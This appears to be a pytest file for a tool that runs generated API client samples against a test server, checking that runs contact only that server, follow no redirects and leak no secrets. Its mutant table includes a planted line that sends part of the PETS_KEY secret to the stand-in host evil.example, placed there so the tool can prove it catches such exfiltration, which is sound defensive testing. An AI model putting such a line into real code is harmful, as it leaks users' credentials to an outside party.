"""What a run does to the network: one request to one server, whatever a sample or the server tries."""

import json
import subprocess
from pathlib import Path

import pytest
from against import CANARY, COMMAND, GOOD, SPEC, against, command, environment
from real_server import real_server

from generator.proving.against.forward import Forwarder, ForwardError
from generator.proving.http_message import Received

pytestmark = pytest.mark.xdist_group("against")

REQUEST = Received("GET", "/", (), b"", b"GET / HTTP/1.1\r\nHost: api.pets.example\r\n\r\n")
# Notes each address that a process connects to, and each host that it looks up.
WATCH = """
import os, sys
def note(event, args):
    if event == "socket.connect" and isinstance(args[1], tuple):
        line = f"{os.getpid()} connects {args[1][1]}"
    elif event == "socket.getaddrinfo":
        line = f"{os.getpid()} looks up {args[0]}"
    else:
        return
    with open(os.environ["WATCHED"], "a") as file:
        file.write(line + "\\n")
sys.addaudithook(note)
"""


def test_only_the_given_server_is_looked_up_and_connected_to(server, tmp_path):
    (tmp_path / "watching").mkdir()
    (tmp_path / "watching" / "sitecustomize.py").write_text(WATCH)
    (tmp_path / "pets.yaml").write_bytes(SPEC.read_bytes())
    watched = tmp_path / "watched"
    variables = environment(CANARY, WATCHED=str(watched))
    variables["PYTHONPATH"] += f":{tmp_path / 'watching'}"
    process = subprocess.Popen(command(server), cwd=tmp_path, env=variables, stdout=subprocess.PIPE)
    process.communicate()
    assert process.returncode == 0
    own = [
        line.split(" ", 1)[1]
        for line in watched.read_text().splitlines()
        if line.startswith(f"{process.pid} ")
    ]
    port = server.url.rpartition(":")[2]
    assert set(own) == {"looks up localhost", f"connects {port}"}


def test_a_redirect_to_another_server_is_not_followed(server, tmp_path):
    other_folder = tmp_path / "other"
    other_folder.mkdir()
    with real_server(other_folder) as other:
        server.answer = (302, {"Location": f"{other.url}/stolen"}, b"")
        done = against(server, tmp_path, "-l", "python", "-l", "curl", "-l", "python-requests")
        assert done.returncode == 1
        assert "the status 302 Found is not documented, only 200, 404" in done.stdout
        assert other.received == []
    assert len(server.received) == 3


def test_a_request_without_an_answer_is_not_sent_again(server, tmp_path):
    server.answer = None
    done = against(server, tmp_path)
    assert done.returncode == 1
    assert "the server closed the connection without a response" in done.stdout
    assert len(server.received) == 1


class Retrying(Forwarder):
    """A mutant: it asks again where there was no answer."""

    __slots__ = ()

    def send(self, received):
        try:
            return super().send(received)
        except ForwardError:
            return super().send(received)


@pytest.mark.parametrize(("forwarder", "requests"), [(Forwarder, 1), (Retrying, 2)])
def test_the_server_sees_each_retry(server, forwarder, requests):
    server.answer = None
    with pytest.raises(ForwardError):
        forwarder.to(server.url, server.ca).send(REQUEST)
    assert len(server.received) == requests


def samples_with(tmp_path: Path, old: str, new: str) -> None:
    """Our own samples in ``samples``, changed in one place."""
    words = [COMMAND, "generate", str(SPEC), "-o", "samples", "-l", "python"]
    assert subprocess.run(words, cwd=tmp_path, capture_output=True).returncode == 0
    path = tmp_path / "samples/python/getPet/default.py"
    text = path.read_text()
    assert old in text
    path.write_text(text.replace(old, new))


SENT = "response = connection.getresponse()\n"
ELSEWHERE = (
    'import urllib.request\nurllib.request.urlopen("https://evil.example/?" + os.environ["PETS_KEY"][:6])\n'
)
MUTANTS = {
    "sends twice": (
        SENT,
        f'{SENT}response.read()\nconnection.request("GET", "/pets/42?view=short", headers=headers)\n{SENT}',
    ),
    "sends the secret to another host": (SENT, SENT + ELSEWHERE),
    "connects to another address": (SENT, SENT + 'http.client.HTTPSConnection("203.0.113.7").connect()\n'),
    "drops the key": ('"X-Key"', '"X-Other"'),
    "sends another key": ('os.environ["PETS_KEY"]', 'os.environ["PETS_KEY"][::-1]'),
    "asks for another pet": ("/pets/42", "/pets/43"),
    "ignores the response": ("print(response.read().decode())", "response.read()"),
}


@pytest.mark.parametrize("name", MUTANTS)
def test_a_changed_sample_fails_and_leaks_nothing(server, tmp_path, name):
    samples_with(tmp_path, *MUTANTS[name])
    done = against(server, tmp_path, "--samples", "samples", "--json", "out.json")
    assert done.returncode == 1, done.stdout
    assert all(request[1] == "/pets/42?view=short" for request in server.received)
    assert len(server.received) <= 1
    assert CANARY not in done.stdout + (tmp_path / "out.json").read_text()
    found = json.loads((tmp_path / "out.json").read_text())["samples"][0]
    assert False in (found["sent"], found["answered"])


def test_a_sample_of_http_is_forwarded_with_its_bytes_but_for_the_host(server):
    server.answer = (200, GOOD, b"{}")
    Forwarder.to(server.url, server.ca).send(REQUEST)
    assert server.received == [("GET", "/", {"Host": server.url.removeprefix("https://")})]
